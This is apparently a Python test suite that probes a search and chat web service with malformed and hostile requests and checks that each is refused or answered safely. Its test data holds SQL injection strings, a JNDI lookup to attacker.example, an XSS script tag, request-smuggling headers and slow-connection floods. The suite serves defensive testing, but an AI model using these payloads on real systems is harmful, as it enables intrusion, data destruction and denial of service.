"""A malformed or huge request is answered in time, and blocks no other request."""

from __future__ import annotations

import json
import re
import secrets
import select
import shutil
import socket
from collections.abc import Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, closing, suppress
from http.client import HTTPResponse
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest

from tests.security.attacks import PROMPT_SECONDS, SECONDS, Answered, Target, filled_path
from tests.support.people import PASSWORD
from tests.support.processes import serving
from ui.accounts import Accounts, Role, Scope

pytestmark = pytest.mark.slow_cases

JSON = ("Content-Type", "application/json")
TAKEN_OR_REFUSED = frozenset({200, 201, 202, 204, 400, 404, 409, 413, 414, 422, 431})
REFUSED = frozenset({400, 404, 413, 414, 422, 431})
ANSWER_SECONDS = 20.0
"""The time limit for the longest question, on a busy machine."""


def sent(target: Target, path: str, body: bytes, method: str = "POST") -> Answered:
    """Send a body unchanged, as JSON from the server's own page."""
    answered = target.ask(method, path, [JSON, ("Origin", target.origin)], body)
    target.assert_harmless(answered)
    assert answered.seconds < ANSWER_SECONDS
    return answered


# JSON


BODIES = {
    "depth": b'{"query": ' + b"[" * 10_000 + b"]" * 10_000 + b"}",
    "depth of objects": b'{"query": ' + b'{"a":' * 10_000 + b"1" + b"}" * 10_000 + b"}",
    "depth without an end": b"[" * 900_000,
    "not a number": b'{"query": "gate", "limit": NaN}',
    "no end": b'{"query": "gate", "limit": Infinity}',
    "a number without measure": b'{"query": "gate", "limit": 1e400}',
    "100,000 digits": b'{"query": "gate", "limit": ' + b"9" * 100_000 + b"}",
    "a negative zero": b'{"query": "gate", "limit": -0}',
    "half a character": b'{"query": "\\ud800"}',
    "half a character as a name": b'{"query": "gate", "\\udfff": 1}',
    "bytes that are no text": b'{"query": "\xff\xfe"}',
    "an overlong encoding": b'{"query": "\xc0\xaf"}',
    "a mark of the byte order": b'\xef\xbb\xbf{"query": "gate"}',
    "another encoding": '{"query": "gate"}'.encode("utf-16"),
    "a null": b'{"query": "a\\u0000b"}',
    "a null alone": b'{"query": "\\u0000"}',
    "no JSON": b"query=gate",
    "nothing": b"",
    "a list": b"[]",
    "a text": b'"gate"',
    "a prototype": b'{"query": "gate", "__proto__": {"a": 1}}',
    "a class": b'{"query": "gate", "__class__": "os.system"}',
    "another type": b'{"query": {"$ne": null}}',
    "a list for a text": b'{"query": ["gate"]}',
    "50,000 fields": json.dumps({"query": "gate", **{f"f{n}": 1 for n in range(50_000)}}).encode(),
    "100,000 values": json.dumps({"query": "gate", "filters": {"kinds": ["x"] * 100_000}}).encode(),
}


@pytest.mark.parametrize("path", ["/v1/search", "/v1/chat", "/v1/feedback", "/v1/chat/completions"])
@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_a_body_is_taken_or_refused_in_words(target: Target, body: bytes, path: str) -> None:
    if path != "/v1/search":
        body = body.replace(b'"query"', b'"question"')
    assert sent(target, path, body).status in TAKEN_OR_REFUSED


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_an_event_of_another_form_is_refused(target: Target, body: bytes) -> None:
    assert sent(target, "/gradio_api/queue/join", body).status in REFUSED


@pytest.mark.parametrize("number", [0, 1, 3, 5, 1000])
def test_an_event_with_a_wrong_number_of_values_is_refused(target: Target, number: int) -> None:
    """Gradio would print what came into the log, where each line could be another event."""
    words = "Traceback (most recent call last)\ntime=2031 level=info event=sign_in"
    body = {"data": [words] * number, "fn_index": 0, "session_hash": "a"}
    refused = target.post("/gradio_api/queue/join", body)
    assert refused.status == 422
    assert refused.json["detail"].startswith("The event is not one of the page: function 0 takes 4 values")


def test_the_last_of_two_fields_counts_and_both_are_checked(target: Target) -> None:
    assert sent(target, "/v1/search", b'{"query": "gate", "limit": 1, "limit": 1000000}').status == 422
    found = sent(target, "/v1/search", b'{"query": "gate", "query": "suspects", "limit": 1}').json
    assert (found["query"], len(found["results"])) == ("suspects", 1)


# Numbers


NUMBERS = [2**63, -(2**63) - 1, 2**64, 10**30, -(10**30), 10**400, -1, 0]


@pytest.fixture(scope="module")
def description(target: Target) -> Mapping[str, Any]:
    found: Mapping[str, Any] = target.ask("GET", "/openapi.json").json
    return found


def is_whole(schema: Mapping[str, Any]) -> bool:
    return "integer" in {schema.get("type"), *(each.get("type") for each in schema.get("anyOf", ()))}


def requests_with(description: Mapping[str, Any], number: int) -> Iterator[tuple[str, str, str]]:
    """Method, path and parameter name of each request with a parameter set to ``number``."""
    for path, item in description["paths"].items():
        for method, operation in item.items():
            for parameter in operation.get("parameters", ()):
                if not is_whole(parameter["schema"]):
                    continue
                name = parameter["name"]
                if parameter["in"] == "path":
                    yield method.upper(), filled_path(path.replace(f"{{{name}}}", str(number))), name
                elif parameter["in"] == "query":
                    required = "&query=gate" if path.endswith("/matches") else ""
                    yield method.upper(), f"{filled_path(path)}?{name}={number}{required}", name


@pytest.mark.parametrize(
    "number", NUMBERS, ids=lambda number: f"{number:.0e}" if abs(number) < 1e300 else "1e400"
)
def test_a_number_of_any_size_is_taken_or_refused(
    target: Target, description: Mapping[str, Any], number: int
) -> None:
    found = {
        f"{method} {path[:60]}": target.ask(method, path).status
        for method, path, _ in requests_with(description, number)
    }
    assert len(found) > 15
    assert {request: status for request, status in found.items() if status not in TAKEN_OR_REFUSED} == {}
    if abs(number) >= 2**63:
        assert {request: status for request, status in found.items() if status not in REFUSED} == {}


@pytest.mark.parametrize("number", [2**63, -(2**63) - 1, 10**30, 10**400, -1])
def test_a_number_of_any_size_in_a_body_is_taken_or_refused(target: Target, number: int) -> None:
    evidence = {"document_id": 1, "version": 1, "start": 0, "end": 5}
    judged = {"question": "Who?", "verdict": "wrong"}
    bodies: list[tuple[str, Any]] = [
        ("/v1/search", {"query": "gate", "limit": number}),
        ("/v1/search", {"query": "gate", "filters": {"document_ids": [number]}}),
        ("/v1/chat", {"question": "Who?", "filters": {"document_ids": [number]}}),
        *(("/v1/feedback", {**judged, "evidence": [{**evidence, name: number}]}) for name in evidence),
    ]
    found = [(path, sent(target, path, json.dumps(body).encode()).status) for path, body in bodies]
    if number == -1:  # No document has this number, and nothing is narrowed by it.
        found = [(path, status) for path, status in found if status != 200]
    assert [(path, status) for path, status in found if status not in REFUSED] == []


@pytest.mark.parametrize(
    "value", ["1e3", "0x10", "١٢", "1_000", " 1", "+1", "1.0", "", "null", "true", "NaN"]
)
def test_a_number_that_is_written_otherwise_is_taken_or_refused(target: Target, value: str) -> None:
    for path in ("/v1/jobs?limit=", "/v1/documents/1/text?start=", "/v1/documents/"):
        answered = target.ask("GET", path + quote(value))
        target.assert_harmless(answered)
        assert answered.status in TAKEN_OR_REFUSED


# Words


WORDS = {
    "a field": "title:foo OR *",
    "a field of ours": "document_id:1 AND text:*",
    "all": "*",
    "all of a field": "text:*",
    "an open quotation": '"unclosed',
    "an open bracket": "(((((gate",
    "a closing bracket": "gate)))))",
    "a range": "[a TO z]",
    "an open range": "{a TO",
    "a boost": "gate^1e400",
    "a slop": '"dam gate"~99999999999999999999',
    "a wildcard in front": "*ate",
    "a pattern": "/.*(a+)+$/",
    "negations": "NOT NOT NOT - + ! gate",
    "operators alone": "AND OR NOT",
    "SQL": "'; DROP TABLE documents; --",
    "SQL in double quotes": '" OR 1=1 --',
    "SQL with a union": "x' UNION SELECT * FROM sqlite_master --",
    "SQL's wildcards": "%_%",
    "a per cent sign": "%",
    "a backslash": "\\",
    "backslashes": "\\\\\\'\\\"",
    "a null": "gate\0gate",
    "controls": "\x01\x02\x1b[2Jgate",
    "1,999 marks": "e" + "\u0301" * 1998,
    "marks on every letter": "g\u0301\u0302\u0303" * 450,
    "words from right to left": "\u202egate\u202c",
    "no width": "\u200b\u200c\u200d\ufeff",
    "one letter 2,000 times": "a" * 2000,
    "1,000 words": "a " * 999 + "b",
    "digits": "9" * 2000,
    "a figure of figures": "1,000,000.00 %" * 140,
    "a template": "{{7*7}} ${jndi:ldap://attacker.example/a} <%= 7*7 %>",
    "a script": "<script>alert(1)</script>",
    "a private letter": "\ue000\U0010ffff\ufffe",
}


@pytest.mark.parametrize("words", WORDS.values(), ids=WORDS)
def test_a_query_or_a_filter_is_words_and_nothing_else(target: Target, words: str) -> None:
    asked = [
        target.post("/v1/search", {"query": words, "limit": 100}),
        target.post("/v1/chat", {"question": words}),
        target.ask("GET", f"/v1/conversations?query={quote(words[:200])}"),
        target.ask("GET", f"/v1/documents/1/matches?query={quote(words[:200])}"),
        target.ask("GET", f"/v1/index/encoder?answer_id={quote(words[:200])}"),
    ]
    for answered in asked:
        target.assert_harmless(answered)
        assert answered.status in {200, 422}
        assert answered.seconds < ANSWER_SECONDS
    if asked[1].status == 200:
        path = f"/v1/conversations/{asked[1].json['conversation_id']}"
        assert target.ask("DELETE", path).status == 204
    for name in ("publishers", "languages", "collections", "kinds"):
        answered = target.post("/v1/search", {"query": "gate", "filters": {name: [words]}})
        target.assert_harmless(answered)
        assert answered.status in {200, 422}
        if answered.status == 200:
            assert answered.json["results"] == []


@pytest.mark.parametrize("words", ["\ud800", "a\udc00b", "\udfff\ud800"])
def test_half_a_character_is_refused_or_answered(target: Target, words: str) -> None:
    """JSON can contain half a surrogate pair, and UTF-8 cannot."""
    said = json.dumps(words).encode()
    for path, body in (
        ("/v1/search", b'{"query": %s}'),
        ("/v1/search", b'{"query": "gate", "filters": {"publishers": [%s]}}'),
        ("/v1/search", b'{"query": "gate", "published_after": %s}'),
        ("/v1/chat", b'{"question": %s}'),
        ("/v1/chat", b'{"question": "Who?", "conversation_id": %s}'),
        ("/v1/chat", b'{"question": "Who?", "history": [{"role": "user", "content": %s}]}'),
        ("/v1/chat/completions", b'{"messages": [{"role": "user", "content": %s}]}'),
        ("/v1/chat/completions", b'{"model": %s, "messages": [{"role": "user", "content": "Who?"}]}'),
        ("/v1/feedback", b'{"question": %s, "verdict": "right"}'),
        ("/v1/feedback", b'{"question": "Who?", "verdict": "right", "note": %s}'),
        ("/gradio_api/queue/join", b'{"data": [%s, "", null, ""], "fn_index": 0, "session_hash": "a"}'),
    ):
        assert sent(target, path, body % said).status in TAKEN_OR_REFUSED
    for path, field in (("/v1/documents/1", b"title"), ("/v1/conversations/" + "0" * 32, b"name")):
        assert sent(target, path, b'{"%s": %s}' % (field, said), "PATCH").status in REFUSED | {409}


@pytest.mark.parametrize(
    "scope",
    [
        "no JSON",
        "[]",
        '{"unknown": ["x"]}',
        '{"document_ids": ["1"]}',
        '{"document_ids": [1.5]}',
        '{"document_ids": [9223372036854775808]}',
        '{"publishers": "x"}',
        '{"publishers": [1]}',
        '{"published_after": "yesterday"}',
        '{"published_before": "2025-02-31"}',
        "[" * 10_000,
        '{"kinds": [' + '"x",' * 100_000 + '"x"]}',
    ],
    ids=lambda scope: scope[:40],
)
def test_a_question_whose_scope_cannot_be_read_is_not_asked_of_all_reports(
    target: Target, scope: str
) -> None:
    asked = "How many suspects were arrested, and over how many days?"
    said = asked_on_page(target, [asked, scope, None, ""])
    assert "fn-mark" not in said


def test_a_question_whose_scope_can_be_read_is_asked(target: Target) -> None:
    """A valid scope is accepted, which shows that the questions above fail only for their scope."""
    asked = "How many suspects were arrested, and over how many days?"
    assert "fn-mark" in asked_on_page(target, [asked, '{"kinds": ["markdown", "md", "text"]}', None, ""])


def asked_on_page(target: Target, data: list[str | None]) -> str:
    """Everything that the page receives for a question; empty if the server refuses it."""
    # Each question has a session of its own: a page shows the answers before it, too.
    session = secrets.token_hex(6)
    body = {"data": data, "fn_index": 0, "session_hash": session, "trigger_id": 4, "event_data": None}
    joined = target.post("/gradio_api/queue/join", body)
    target.assert_harmless(joined)
    if joined.status != 200:
        assert joined.status in REFUSED
        return ""
    said = target.ask("GET", f"/gradio_api/queue/data?session_hash={session}").text
    for answer_id in set(re.findall(r"fn-answer-([0-9a-f]{32})", said)):
        target.ask("DELETE", f"/v1/answers/{answer_id}")
    return said


# HTTP


def exchanged(target: Target, head: str, body: bytes = b"") -> bytes:
    """Everything that the server sends for these bytes until it closes the connection."""
    host = f"Host: {target.host}\r\n"
    with socket.create_connection(target.address, timeout=ANSWER_SECONDS) as connection:
        first, _, rest = head.partition("\r\n")
        received = b""
        # The server may close the connection before it has read, or sent, everything.
        with suppress(OSError):
            connection.sendall(f"{first}\r\n{host}{rest}".encode("latin-1") + body)
            connection.shutdown(socket.SHUT_WR)
            while part := connection.recv(65536):
                received += part
    return received


SMUGGLED = b"GET /v1/documents HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
SMUGGLING = {
    "two lengths": "Content-Length: 0\r\nContent-Length: 48\r\n",
    "two lengths in one line": "Content-Length: 0, 48\r\n",
    "a length with a sign": "Content-Length: +0\r\n",
    "a negative length": "Content-Length: -1\r\n",
    "a length in hexadecimal": "Content-Length: 0x0\r\n",
    "a length without measure": f"Content-Length: {'9' * 400}\r\n",
    "a coding that is none": "Transfer-Encoding: xchunked\r\n",
    "two codings": "Transfer-Encoding: chunked, identity\r\n",
    "a coding with a tab": "Transfer-Encoding:\x0bchunked\r\n",
    "a space before the colon": "Content-Length : 0\r\n",
    "a folded line": "Content-Length:\r\n 0\r\n",
    "a null": "X-A: a\0b\r\n",
    "a line's end within": "X-A: a\rContent-Length: 0\r\n",
    "a name that is none": "X A: b\r\n",
}


@pytest.mark.parametrize("lines", SMUGGLING.values(), ids=SMUGGLING)
def test_a_request_of_doubtful_length_is_refused_with_all_that_follows(target: Target, lines: str) -> None:
    received = exchanged(target, f"POST /healthz HTTP/1.1\r\n{lines}\r\n", SMUGGLED)
    assert received.count(b"HTTP/1.1 ") == 1
    assert re.match(rb"HTTP/1.1 (400|405|413|501) ", received)
    assert b"documents" not in received


def test_a_length_beside_a_coding_smuggles_nothing(target: Target) -> None:
    """A proxy may use the length while the server uses the encoding."""
    lines = "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"
    received = exchanged(target, f"GET /healthz HTTP/1.1\r\n{lines}\r\n", b"0\r\n\r\n" + SMUGGLED)
    assert received.startswith(b"HTTP/1.1 400 ")
    assert received.count(b"HTTP/1.1 ") == 1
    assert b"send one of them" in received


TARGETS = {
    "no target": "GET HTTP/1.1\r\n",
    "no version": "GET /healthz\r\n",
    "another version": "GET /healthz HTTP/9.9\r\n",
    "a former version": "GET /healthz HTTP/0.9\r\n",
    "a space in the target": "GET /a b HTTP/1.1\r\n",
    "a method without measure": f"{'A' * 10_000} / HTTP/1.1\r\n",
    "a target without measure": f"GET /{'a' * 200_000} HTTP/1.1\r\n",
    "a header without measure": f"GET /healthz HTTP/1.1\r\nX-A: {'a' * 200_000}\r\n",
    "headers without measure": "GET /healthz HTTP/1.1\r\n" + "X-A: a\r\n" * 20_000,
    "an upgrade": "GET /healthz HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n",
    "a tunnel": "CONNECT attacker.example:80 HTTP/1.1\r\n",
}


@pytest.mark.parametrize("head", TARGETS.values(), ids=TARGETS)
def test_a_request_of_another_form_gets_one_answer(target: Target, head: str) -> None:
    received = exchanged(target, f"{head}\r\n")
    assert received.count(b"HTTP/1.1 ") <= 1
    assert re.match(rb"HTTP/1.1 (200|400|403|404|405|414|426|431|501|505) |$", received)


@pytest.mark.parametrize(
    "path", ["/v1/search", "/v1/chat", "/v1/index/sync", "/v1/index/encoder", "/gradio_api/queue/join"]
)
def test_a_body_without_measure_is_refused_before_it_is_read(target: Target, path: str) -> None:
    for lengths in ([("Content-Length", str(10**12))], [("Content-Length", "1000001")]):
        answered = target.ask("POST", path, [JSON, *lengths], b"{}", seconds=PROMPT_SECONDS)
        assert answered.status == 413
    chunks = b"".join(b"10000\r\n" + b"a" * 65536 + b"\r\n" for _ in range(40)) + b"0\r\n\r\n"
    answered = target.ask("POST", path, [JSON, ("Transfer-Encoding", "chunked")], chunks)
    assert answered.status in {0, 413}


def test_slow_requests_hold_up_nobody(target: Target) -> None:
    """Each request starts a body and never finishes it."""
    with ExitStack() as opened:
        for number in range(100):
            connection = opened.enter_context(socket.create_connection(target.address, timeout=5))
            path = ("/v1/search", "/v1/documents", "/gradio_api/queue/join", "/v1/chat")[number % 4]
            kind = "multipart/form-data; boundary=x" if path == "/v1/documents" else "application/json"
            head = (
                f"POST {path} HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: {kind}\r\n"
                "Content-Length: 1000\r\n\r\n{"
            )
            connection.sendall(head.encode())
        for _ in range(5):
            assert target.ask("GET", "/healthz", seconds=PROMPT_SECONDS).status == 200
        assert target.post("/v1/search", {"query": "gate"}, seconds=PROMPT_SECONDS).status == 200
        assert target.ask("GET", "/v1/documents", seconds=PROMPT_SECONDS).status == 200


# Lengths that are not said


@pytest.mark.slow
def test_uploads_without_a_length_do_not_pass_the_limit_together(seeded: Path, tmp_path: Path) -> None:
    """Three files of eight megabytes each, sent at once under a limit of three; nothing is kept of them."""
    home, temporary = tmp_path / "home", tmp_path / "temporary"
    shutil.copytree(seeded, home)
    temporary.mkdir()
    with closing(Accounts.open(home)) as accounts:
        accounts.users.add("ada", PASSWORD, Role.ADMINISTRATOR)
        _, secret = accounts.tokens.add("sends", (Scope.READ, Scope.WRITE))
    limited = serving(home, FOOTNOTED_SIGN_IN="on", FOOTNOTED_LIMIT_UPLOADS="3", TMPDIR=str(temporary))
    with limited as served, ThreadPoolExecutor(3) as pool:
        host = urlsplit(served.address).netloc
        head = (
            f"POST /v1/documents HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {secret}\r\n"
            "Content-Type: multipart/form-data; boundary=b\r\nTransfer-Encoding: chunked\r\n\r\n"
        )
        sent = list(pool.map(lambda name: chunked(host, head, name), ("a.txt", "b.txt", "c.txt")))
        reader = {"Authorization": f"Bearer {secret}"}
        listed = httpx.get(f"{served.address}/v1/documents", headers=reader, trust_env=False).json()
        assert not any(each["uploaded"] for each in listed["documents"])
    statuses = [status for status, _, _ in sent]
    assert set(statuses) <= {413, 429}
    assert 413 in statuses
    for status, detail, _ in sent:
        if status == 413:
            assert detail.startswith("The file is larger than what is left of the limit of 3 megabytes of")
    # What the server has not read fills the buffers of the connection.
    assert sum(size for _, _, size in sent) < 20_000_000
    left = [*home.glob("uploads/*"), *temporary.rglob("*")]
    assert [each for each in left if each.is_file()] == []


def chunked(host: str, head: str, name: str) -> tuple[int, str, int]:
    """Send eight megabytes; return the status, the reason and how many bytes were taken."""
    form = f'--b\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'.encode()
    parts = [form, *[b" " * 65_536] * 128, b"\r\n--b--\r\n", b""]
    address, _, port = host.rpartition(":")
    size = 0
    with socket.create_connection((address, int(port)), timeout=SECONDS) as connection:
        connection.sendall(head.encode())
        with suppress(ConnectionError):
            for part in parts:
                connection.sendall(b"%x\r\n%b\r\n" % (len(part), part))
                size += len(part)
                # The server answers before the end.
                if select.select([connection], [], [], 0)[0]:
                    break
        response = HTTPResponse(connection)
        response.begin()
        return response.status, json.loads(response.read())["detail"], size
